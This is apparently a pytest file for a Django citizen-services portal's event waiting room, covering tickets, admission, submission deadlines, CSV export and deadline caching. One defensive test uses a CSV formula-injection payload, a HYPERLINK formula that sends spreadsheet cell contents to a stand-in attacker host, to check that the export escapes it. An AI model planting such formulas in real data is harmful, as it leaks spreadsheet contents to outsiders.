"""An event an administrator opened in advance: eligibility before queueing, the way in to the
procedure through the room, and "a ticket taken before the deadline counts as on time"."""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
import time_machine
from django.contrib import admin
from django.test import RequestFactory
from django.utils import timezone

from motcua.dossiers.intake import SubmissionRejected
from motcua.waitroom import rules, services
from motcua.waitroom.admin import QueueAdmin
from motcua.waitroom.models import Queue, Ticket, TicketState
from tests.dossiers.world import local
from tests.portal.citizen_world import ANSWERS, CODE, build_citizen_world, url

EIGHT = local(2026, 12, 7, 8, 0)
NINE_THIRTY = local(2026, 12, 7, 9, 30)


@pytest.fixture
def world(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return build_citizen_world()


@pytest.fixture
def enrolment(world) -> Queue:
    queue = Queue.objects.create(
        slug="tuyen-sinh-2026", name="Tuyển sinh đầu cấp 2026", opens_at=EIGHT,
        deadline=NINE_THIRTY,
    )  # fmt: skip
    queue.procedures.add(world.version(CODE).procedure)
    return queue


@time_machine.travel(EIGHT + timedelta(minutes=5), tick=False)
def test_starting_the_procedure_goes_through_the_event_queue(client, world, enrolment):
    start = url("submission-start", CODE)
    anonymous = client.get(start)
    assert anonymous.status_code == 302 and "/tai-khoan/dang-nhap/" in anonymous["Location"]

    client.force_login(world["citizen"])
    response = client.get(start)
    assert response.status_code == 302
    query = parse_qs(urlsplit(response["Location"]).query)
    assert query == {"hang": ["tuyen-sinh-2026"], "thu-tuc": [CODE], "tiep": [start]}
    room = client.get(response["Location"])
    assert "Tuyển sinh đầu cấp 2026" in room.content.decode()

    taken = client.post("/hang-cho/", {**{k: v[0] for k, v in query.items()},
                                       "contact": "an@example.vn"})  # fmt: skip
    ticket = Ticket.objects.get()
    assert taken["Location"] == f"/hang-cho/{ticket.secret}/"
    assert ticket.before_deadline and ticket.contact == "an@example.vn"
    assert ticket.holder == world["citizen"] and ticket.procedure.code == CODE

    services.admit_due(enrolment, timezone.now())
    with time_machine.travel(timezone.now() + timedelta(seconds=2), tick=False):
        page = client.get(taken["Location"]).content.decode()
        assert "Đã đến lượt bạn" in page
        inside = client.get(f"/hang-cho/{ticket.secret}/vao/")
        assert inside["Location"] == start
        assert client.get(start).status_code == 200  # the procedure's first page


@time_machine.travel(EIGHT + timedelta(minutes=5), tick=False)
def test_an_admitted_ticket_s_cookie_lets_in_no_other_account(client, world, enrolment):
    start = url("submission-start", CODE)
    client.force_login(world["citizen"])
    query = parse_qs(urlsplit(client.get(start)["Location"]).query)
    taken = client.post("/hang-cho/", {**{k: v[0] for k, v in query.items()},
                                       "contact": "an@example.vn"})  # fmt: skip
    services.admit_due(enrolment, timezone.now())
    with time_machine.travel(timezone.now() + timedelta(seconds=2), tick=False):
        assert "Đã đến lượt bạn" in client.get(taken["Location"]).content.decode()
        assert client.get(f"{taken['Location']}vao/")["Location"] == start
        assert client.get(start).status_code == 200
        # The same browser (the pass cookie copied) signed in as somebody else: to the room.
        client.force_login(world["other_citizen"])
        again = client.get(start)
        assert again.status_code == 302 and again["Location"].startswith("/hang-cho/")


@time_machine.travel(EIGHT + timedelta(minutes=5), tick=False)
def test_someone_not_signed_in_cannot_take_a_ticket_for_an_event(client, world, enrolment):
    query = {"hang": enrolment.slug, "thu-tuc": CODE}
    page = client.get("/hang-cho/", query).content.decode()
    assert "Vui lòng đăng nhập trước khi lấy lượt" in page
    assert client.post("/hang-cho/", query).status_code == 400
    assert Ticket.objects.count() == 0


def test_a_ticket_taken_before_the_deadline_counts_as_on_time(world, enrolment):
    on_time, late = world["citizen"], world["other_citizen"]
    procedure = world.version(CODE).procedure
    ticket = services.take_ticket(
        queue=enrolment, holder=on_time, procedure=procedure, at=NINE_THIRTY - timedelta(minutes=1)
    )
    with pytest.raises(services.TicketRefused):  # after the deadline: no new ticket
        services.take_ticket(queue=enrolment, holder=late, procedure=procedure, at=NINE_THIRTY)
    after = NINE_THIRTY + timedelta(minutes=40)
    with pytest.raises(SubmissionRejected, match="Đã hết hạn nộp hồ sơ trực tuyến"):
        world.submit(CODE, citizen=late, data=ANSWERS, at=after)
    # Still in the line (waiting), then let in and gone in: on time.
    assert not rules.late_submission_problem(procedure.pk, on_time, after)
    Ticket.objects.filter(pk=ticket.pk).update(
        state=TicketState.USED, admitted_at=after - timedelta(minutes=5)
    )
    assert world.submit(CODE, citizen=on_time, data=ANSWERS, at=after).code
    # The exception ends MOTCUA_WAITROOM_LATE_HOURS after they were let in…
    next_day = after + timedelta(hours=24)
    assert "Đã hết hạn" in rules.late_submission_problem(procedure.pk, on_time, next_day)
    # …and a ticket its holder gave up (nobody checked: expired) does not count.
    Ticket.objects.filter(pk=ticket.pk).update(state=TicketState.EXPIRED)
    assert "Đã hết hạn" in rules.late_submission_problem(procedure.pk, on_time, after)


def test_while_an_event_lasts_only_those_the_room_let_in_submit_online(world):
    """The rule is the domain's: the API, which has no pass cookie, cannot go round the room."""
    procedure = world.version(CODE).procedure
    with time_machine.travel(EIGHT - timedelta(hours=1), tick=False):
        event = Queue.objects.create(slug="su-kien", name="Sự kiện", opens_at=EIGHT,
                                     deadline=NINE_THIRTY)  # fmt: skip
        event.procedures.add(procedure)
    let_in, other = world["citizen"], world["other_citizen"]
    ten_past = EIGHT + timedelta(minutes=10)
    with pytest.raises(SubmissionRejected, match="theo hàng chờ"):
        world.submit(CODE, citizen=other, data=ANSWERS, at=ten_past)
    # A draft begun before the queue existed is never interrupted.
    begun = EIGHT - timedelta(hours=2)
    assert not rules.entry_problem(procedure.pk, other, ten_past, started_at=begun)
    assert rules.entry_problem(procedure.pk, other, ten_past, started_at=ten_past)
    # Let in by the room: may submit.
    ticket = services.take_ticket(queue=event, holder=let_in, procedure=procedure, at=EIGHT)
    with pytest.raises(SubmissionRejected, match="theo hàng chờ"):  # still waiting
        world.submit(CODE, citizen=let_in, data=ANSWERS, at=ten_past)
    Ticket.objects.filter(pk=ticket.pk).update(state=TicketState.ADMITTED, admitted_at=ten_past)
    assert world.submit(CODE, citizen=let_in, data=ANSWERS, at=ten_past).code
    # Before the queue was created, and with no event at all, nothing changes.
    assert not rules.entry_problem(procedure.pk, other, EIGHT - timedelta(hours=2))
    event.procedures.clear()
    assert world.submit(CODE, citizen=other, data=ANSWERS, at=ten_past).code


def test_the_administrator_downloads_who_tried_before_the_deadline(
    client, world, enrolment, announced
):
    procedure = world.version(CODE).procedure
    services.take_ticket(
        queue=enrolment, holder=world["citizen"], procedure=procedure, contact="0912345678",
        at=EIGHT - timedelta(minutes=2),
    )  # fmt: skip
    queue_admin = QueueAdmin(Queue, admin.site)
    request = RequestFactory().post("/admin/waitroom/queue/")
    response = queue_admin.export_tried_before_deadline(request, Queue.objects.all())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["hang_cho", "ma_luot", "thu_tu_den"]
    assert rows[1][0] == "tuyen-sinh-2026" and rows[1][4] == CODE and rows[1][6] == "0912345678"
    assert rows[1][3] == "07/12/2026 07:58:00"
    assert queue_admin.figures(enrolment) == "1 / 0 / 0 / 0"  # waiting / admitted / used / expired
    # Contacts leaving the platform: kept in the audit trail like every other export.
    assert [(e["event"], e["target"], e["detail"]) for e in announced] == [
        ("data.exported", "waitroom:tried-before-deadline", {"queues": ["tuyen-sinh-2026"]})
    ]


def test_a_contact_typed_as_a_formula_is_exported_as_text(client, world, enrolment):
    # The contact is typed by anyone taking a ticket; the CSV is opened in a spreadsheet.
    services.take_ticket(
        queue=enrolment, holder=world["citizen"], procedure=world.version(CODE).procedure,
        contact='=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")', at=EIGHT,
    )  # fmt: skip
    request = RequestFactory().post("/admin/waitroom/queue/")
    response = QueueAdmin(Queue, admin.site).export_tried_before_deadline(
        request, Queue.objects.all()
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][6] == '\'=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")'


def test_the_deadlines_kept_by_the_process_follow_every_change_of_a_queue(
    world, enrolment, monkeypatch
):
    """The deadlines are read once per generation (no query per submission), and a deadline
    set, moved or removed, or a procedure added to an event, counts at the next submission."""
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    citizen, after = world["citizen"], NINE_THIRTY + timedelta(minutes=1)
    procedure = world.version(CODE).procedure
    assert rules.late_submission_problem(procedure.pk, citizen, after)
    with CaptureQueriesContext(connection) as captured:
        assert rules.late_submission_problem(procedure.pk, citizen, after)
        assert not rules.late_submission_problem(procedure.pk, citizen, NINE_THIRTY - timedelta(1))
    assert [q["sql"] for q in captured.captured_queries if "waitroom_queue" in q["sql"]] == []
    assert len(captured.captured_queries) == 1  # the person's ticket, once a deadline passed

    enrolment.deadline = after + timedelta(hours=1)  # moved later by the administrator
    enrolment.save()
    assert not rules.late_submission_problem(procedure.pk, citizen, after)
    enrolment.procedures.clear()
    enrolment.deadline = NINE_THIRTY
    enrolment.save()
    assert not rules.late_submission_problem(procedure.pk, citizen, after)
    enrolment.procedures.add(procedure)  # the procedure added to the event
    assert rules.late_submission_problem(procedure.pk, citizen, after)
    # The admission's counters saved every second are not a change of the deadlines.
    generation = cache.get(rules.DEADLINES_GENERATION)
    enrolment.save(update_fields=["admit_credit", "admitted_until"])
    assert cache.get(rules.DEADLINES_GENERATION) == generation
    # Another process's change: a new generation in the shared cache.
    Queue.objects.filter(pk=enrolment.pk).update(deadline=None)  # no signal, as elsewhere
    assert rules.late_submission_problem(procedure.pk, citizen, after)
    cache.delete(rules.DEADLINES_GENERATION)
    assert not rules.late_submission_problem(procedure.pk, citizen, after)
    # A cache not shared by the processes carries no other process's change: read again after
    # KEPT_SECONDS whatever the generation.
    Queue.objects.filter(pk=enrolment.pk).update(deadline=NINE_THIRTY)
    assert not rules.late_submission_problem(procedure.pk, citizen, after)
    later = time.monotonic() + rules.KEPT_SECONDS
    monkeypatch.setattr(rules.time, "monotonic", lambda: later)
    assert rules.late_submission_problem(procedure.pk, citizen, after)
    enrolment.delete()
    assert not rules.late_submission_problem(procedure.pk, citizen, after)
